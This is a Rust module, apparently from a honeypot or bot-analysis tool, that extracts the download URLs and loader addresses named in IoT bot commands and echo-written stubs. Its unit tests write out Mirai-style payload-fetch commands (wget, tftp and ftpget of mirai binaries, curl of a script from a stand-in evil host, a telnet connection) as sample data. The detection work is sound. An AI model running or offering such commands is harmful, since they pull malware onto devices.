//! What a bot's commands say about its infrastructure: the URLs and hosts
//! of downloads (wget, curl, tftp in BusyBox's `-g -r/-l` and tftp-hpa's
//! `-c get` forms, ftpget, `busybox telnet HOST PORT`, `nc HOST PORT`),
//! and the loader's address inside stubs written with `echo` (Mirai's
//! `dlr`, built when a device has neither wget nor tftp).
//!
//! Extraction reads the words of a command whether or not the emulated
//! device has the applet: a bot that tries `curl` on a device without it
//! still named its server.

use std::net::Ipv4Addr;

/// Longest URL kept; longer ones are cut (a flood of junk must not grow
/// the store).
pub const MAX_URL: usize = 2048;

/// How a download was asked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum DownloadKind {
    /// `wget URL`.
    Wget,
    /// `curl URL`.
    Curl,
    /// `tftp ... HOST`.
    Tftp,
    /// `ftpget HOST LOCAL REMOTE`.
    Ftpget,
    /// `busybox telnet HOST PORT` / `nc HOST PORT` (a raw download or a
    /// reverse connection).
    Connect,
    /// The address inside bytes written with `echo` (a dropped stub).
    Stub,
}

impl DownloadKind {
    /// The name stored and shown: wget, curl, tftp, ftpget, connect, stub.
    pub fn name(self) -> &'static str {
        match self {
            DownloadKind::Wget => "wget",
            DownloadKind::Curl => "curl",
            DownloadKind::Tftp => "tftp",
            DownloadKind::Ftpget => "ftpget",
            DownloadKind::Connect => "connect",
            DownloadKind::Stub => "stub",
        }
    }
}

/// One download or connection a bot asked for.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Download {
    /// How.
    pub kind: DownloadKind,
    /// The URL (`tftp://HOST:PORT/FILE`, `ftp://...`, `tcp://HOST:PORT`
    /// for raw connections and stubs), at most [`MAX_URL`] bytes.
    pub url: String,
    /// The host, lower-case (an address or a name), when the URL has a
    /// well-formed one.
    pub host: Option<String>,
    /// The port, when given or implied by the scheme.
    pub port: Option<u16>,
}

fn cut(mut s: String) -> String {
    if s.len() > MAX_URL {
        let mut n = MAX_URL;
        while !s.is_char_boundary(n) {
            n -= 1;
        }
        s.truncate(n);
    }
    s
}

/// `host` if it is a plausible host name or address literal.
fn valid_host(host: &str) -> Option<String> {
    let h = host.trim_start_matches('[').trim_end_matches(']');
    if h.is_empty() || h.len() > 253 {
        return None;
    }
    let ok = h
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-' || b == b':' || b == b'_');
    ok.then(|| h.to_ascii_lowercase())
}

/// Host and port of a URL (`scheme://[user[:pw]@]host[:port]/...`, IPv6
/// in brackets); a URL without a scheme is taken as http.
pub fn url_host(url: &str) -> (Option<String>, Option<u16>) {
    let (scheme, rest) = match url.split_once("://") {
        Some((s, r)) => (s.to_ascii_lowercase(), r),
        None => ("http".to_string(), url),
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let authority = authority.rsplit_once('@').map_or(authority, |(_, a)| a);
    let (host, port) = if let Some(stripped) = authority.strip_prefix('[') {
        match stripped.split_once(']') {
            Some((h, p)) => (h, p.strip_prefix(':')),
            None => (stripped, None),
        }
    } else {
        match authority.rsplit_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (authority, None),
        }
    };
    let port = match port {
        Some(p) => p.parse::<u16>().ok(),
        None => match scheme.as_str() {
            "http" => Some(80),
            "https" => Some(443),
            "ftp" => Some(21),
            "tftp" => Some(69),
            _ => None,
        },
    };
    (valid_host(host), port)
}

fn looks_like_url(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    ["http://", "https://", "ftp://", "tftp://"]
        .iter()
        .any(|s| lower.starts_with(s))
        // wget and curl also take "host/path" and "198.51.100.4:8080/x".
        || (!word.starts_with('-') && word.contains('/') && {
            let host = word.split('/').next().unwrap_or("");
            host.contains('.') && valid_host(host.split(':').next().unwrap_or("")).is_some()
        })
}

fn download(kind: DownloadKind, url: String) -> Download {
    let url = cut(url);
    let (host, port) = url_host(&url);
    Download {
        kind,
        url,
        host,
        port,
    }
}

/// The downloads one simple command (its words, after quote removal) asks
/// for. `busybox APPLET ...` and `/bin/busybox APPLET ...` are the applet.
pub fn downloads_in(words: &[String]) -> Vec<Download> {
    let mut w = words;
    while let Some(first) = w.first() {
        if basename(first) == "busybox" && w.len() > 1 {
            w = &w[1..];
        } else {
            break;
        }
    }
    let Some(cmd) = w.first() else {
        return Vec::new();
    };
    let args = &w[1..];
    match basename(cmd) {
        "wget" => urls_among(
            DownloadKind::Wget,
            args,
            &["-O", "-P", "-U", "-T", "-Y", "--header", "-o", "-e"],
        ),
        "curl" => urls_among(
            DownloadKind::Curl,
            args,
            &[
                "-o",
                "-A",
                "-H",
                "-u",
                "-x",
                "-e",
                "-d",
                "-m",
                "--output",
                "--user-agent",
                "--header",
                "--connect-timeout",
                "--max-time",
                "-X",
                "--data",
            ],
        ),
        "tftp" => tftp(args).into_iter().collect(),
        "ftpget" => ftpget(args).into_iter().collect(),
        "telnet" | "nc" | "netcat" => {
            let pos: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
            match pos.as_slice() {
                [host, port, ..] if port.parse::<u16>().is_ok() => {
                    vec![download(
                        DownloadKind::Connect,
                        format!("tcp://{host}:{port}"),
                    )]
                }
                _ => Vec::new(),
            }
        }
        _ => Vec::new(),
    }
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn urls_among(kind: DownloadKind, args: &[String], with_value: &[&str]) -> Vec<Download> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if with_value.contains(&a.as_str()) {
            i += 2;
            continue;
        }
        if looks_like_url(a) {
            let url = if a.contains("://") {
                a.clone()
            } else {
                format!("http://{a}")
            };
            out.push(download(kind, url));
        }
        i += 1;
    }
    out
}

/// BusyBox `tftp [-g|-p] [-l LOCAL] [-r REMOTE] [-b N] HOST [PORT]` and
/// tftp-hpa `tftp HOST [PORT] -c get REMOTE [LOCAL]`.
fn tftp(args: &[String]) -> Option<Download> {
    let (mut remote, mut local, mut pos) = (None, None, Vec::new());
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        match a {
            "-r" => {
                remote = args.get(i + 1).cloned();
                i += 2;
            }
            "-l" => {
                local = args.get(i + 1).cloned();
                i += 2;
            }
            "-b" | "-m" => i += 2,
            "-c" => {
                // -c get REMOTE [LOCAL]
                if args.get(i + 1).is_some_and(|v| v == "get") {
                    remote = args.get(i + 2).cloned();
                    i += 3;
                    if let Some(l) = args.get(i).filter(|l| !l.starts_with('-')) {
                        local = Some(l.clone());
                        i += 1;
                    }
                } else {
                    i += 2;
                }
            }
            _ if a.starts_with('-') => {
                // -g, -p, -v and combined letters like -gr FILE.
                if a.ends_with('r') && a.len() > 2 {
                    remote = args.get(i + 1).cloned();
                    i += 2;
                } else if a.ends_with('l') && a.len() > 2 {
                    local = args.get(i + 1).cloned();
                    i += 2;
                } else {
                    i += 1;
                }
            }
            _ => {
                pos.push(a.to_string());
                i += 1;
            }
        }
    }
    let host = pos.first()?;
    let file = remote.or(local).unwrap_or_default();
    let port = pos.get(1).filter(|p| p.parse::<u16>().is_ok());
    let authority = match port {
        Some(p) => format!("{host}:{p}"),
        None => host.clone(),
    };
    Some(download(
        DownloadKind::Tftp,
        format!("tftp://{authority}/{}", file.trim_start_matches('/')),
    ))
}

/// BusyBox `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST LOCAL [REMOTE]`.
fn ftpget(args: &[String]) -> Option<Download> {
    let (mut port, mut pos) = (None, Vec::new());
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "-u" | "-p" => i += 2,
            "-P" => {
                port = args.get(i + 1).cloned();
                i += 2;
            }
            a if a.starts_with('-') => i += 1,
            a => {
                pos.push(a.to_string());
                i += 1;
            }
        }
    }
    let host = pos.first()?;
    let remote = pos.get(2).or(pos.get(1)).cloned().unwrap_or_default();
    let authority = match port.filter(|p| p.parse::<u16>().is_ok()) {
        Some(p) => format!("{host}:{p}"),
        None => host.clone(),
    };
    Some(download(
        DownloadKind::Ftpget,
        format!("ftp://{authority}/{}", remote.trim_start_matches('/')),
    ))
}

/// IPv4 socket addresses (`struct sockaddr_in`: family AF_INET = 2 in the
/// CPU's byte order, port and address in network order, eight zero bytes
/// of `sin_zero`) inside bytes a bot wrote, in order of appearance, each
/// once, at most 16. Both byte orders of the family are tried (the stub is
/// built for the device's CPU). The unspecified and broadcast addresses
/// and port 0 are not addresses a loader listens on and are skipped.
pub fn sockaddrs_in(bytes: &[u8]) -> Vec<(Ipv4Addr, u16)> {
    let mut out = Vec::new();
    if bytes.len() < 16 {
        return out;
    }
    for i in 0..=bytes.len() - 16 {
        let w = &bytes[i..i + 16];
        if !(w[..2] == [2, 0] || w[..2] == [0, 2]) || w[8..] != [0; 8] {
            continue;
        }
        let port = u16::from_be_bytes([w[2], w[3]]);
        let addr = Ipv4Addr::new(w[4], w[5], w[6], w[7]);
        if port == 0 || addr.is_unspecified() || addr.is_broadcast() {
            continue;
        }
        if !out.contains(&(addr, port)) {
            out.push((addr, port));
            if out.len() == 16 {
                break;
            }
        }
    }
    out
}

/// [`sockaddrs_in`] as downloads of kind [`DownloadKind::Stub`].
pub fn stub_downloads(bytes: &[u8]) -> Vec<Download> {
    sockaddrs_in(bytes)
        .into_iter()
        .map(|(a, p)| download(DownloadKind::Stub, format!("tcp://{a}:{p}")))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<String> {
        s.split_whitespace().map(String::from).collect()
    }

    #[test]
    fn wget_curl_tftp_ftpget_and_connects() {
        let d = downloads_in(&words(
            "/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm7 -O - > dvrHelper",
        ));
        assert_eq!(d.len(), 1);
        assert_eq!(d[0].url, "http://198.51.100.7:8080/bins/mirai.arm7");
        assert_eq!(
            (d[0].host.as_deref(), d[0].port),
            (Some("198.51.100.7"), Some(8080))
        );
        let d = downloads_in(&words("wget -O /tmp/x 203.0.113.9/x.sh"));
        assert_eq!(d[0].url, "http://203.0.113.9/x.sh");
        assert_eq!(d[0].port, Some(80));
        let d = downloads_in(&words("curl -o a -A ua http://Evil.Example/a.sh"));
        assert_eq!(d[0].host.as_deref(), Some("evil.example"));
        let d = downloads_in(&words(
            "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 198.51.100.7",
        ));
        assert_eq!(d[0].url, "tftp://198.51.100.7/mirai.mips");
        assert_eq!(d[0].port, Some(69));
        let d = downloads_in(&words("tftp 198.51.100.8 6969 -c get t8UsA.sh"));
        assert_eq!(d[0].url, "tftp://198.51.100.8:6969/t8UsA.sh");
        let d = downloads_in(&words(
            "busybox ftpget -u a -p b -P 2121 198.51.100.9 x /pub/x.arm",
        ));
        assert_eq!(d[0].url, "ftp://198.51.100.9:2121/pub/x.arm");
        let d = downloads_in(&words("/bin/busybox telnet 198.51.100.10 23 > .t"));
        assert_eq!(d[0].kind, DownloadKind::Connect);
        assert_eq!(d[0].url, "tcp://198.51.100.10:23");
        assert!(downloads_in(&words("wget")).is_empty());
        assert!(downloads_in(&words("echo http://x.example/a")).is_empty());
    }

    #[test]
    fn hosts_of_odd_urls() {
        assert_eq!(
            url_host("http://u:p@[2001:db8::1]:81/x"),
            (Some("2001:db8::1".into()), Some(81))
        );
        assert_eq!(
            url_host("ftp://h.example/x"),
            (Some("h.example".into()), Some(21))
        );
        assert_eq!(url_host("http://bad host/x").0, None);
        assert_eq!(url_host("http://h:99999/").1, None);
        let long = format!("http://h.example/{}", "a".repeat(5000));
        let d = downloads_in(&["wget".to_string(), long]);
        assert_eq!(d[0].url.len(), MAX_URL);
    }

    #[test]
    fn sockaddrs_in_stubs_of_either_byte_order() {
        let mut stub = vec![0x7f, b'E', b'L', b'F', 1, 1, 1, 0];
        stub.extend_from_slice(&[0x90; 40]);
        // Little-endian family, port 1337, 198.51.100.7, sin_zero.
        stub.extend_from_slice(&[2, 0, 0x05, 0x39, 198, 51, 100, 7, 0, 0, 0, 0, 0, 0, 0, 0]);
        stub.extend_from_slice(&[0x90; 10]);
        // Big-endian (MIPS) family, port 80, 203.0.113.5.
        stub.extend_from_slice(&[0, 2, 0, 80, 203, 0, 113, 5, 0, 0, 0, 0, 0, 0, 0, 0]);
        // Not addresses: port 0, 0.0.0.0, sin_zero not zero.
        stub.extend_from_slice(&[2, 0, 0, 0, 1, 2, 3, 4, 0, 0, 0, 0, 0, 0, 0, 0]);
        stub.extend_from_slice(&[2, 0, 0, 80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        stub.extend_from_slice(&[2, 0, 0, 80, 9, 9, 9, 9, 0, 0, 0, 1, 0, 0, 0, 0]);
        assert_eq!(
            sockaddrs_in(&stub),
            vec![
                (Ipv4Addr::new(198, 51, 100, 7), 1337),
                (Ipv4Addr::new(203, 0, 113, 5), 80)
            ]
        );
        assert_eq!(stub_downloads(&stub)[0].url, "tcp://198.51.100.7:1337");
        assert!(sockaddrs_in(&[2, 0, 1]).is_empty());
    }

    proptest::proptest! {
        /// Hostile words never panic and give bounded URLs.
        #[test]
        fn any_words_are_safe(ws in proptest::collection::vec(".{0,40}", 0..8)) {
            let mut all = vec!["busybox".to_string()];
            for cmd in ["wget", "curl", "tftp", "ftpget", "telnet"] {
                all.truncate(1);
                all.push(cmd.to_string());
                all.extend(ws.iter().cloned());
                for d in downloads_in(&all) {
                    proptest::prop_assert!(d.url.len() <= MAX_URL);
                }
            }
        }

        #[test]
        fn any_bytes_are_safe(b in proptest::collection::vec(proptest::num::u8::ANY, 0..600)) {
            proptest::prop_assert!(sockaddrs_in(&b).len() <= 16);
        }
    }
}
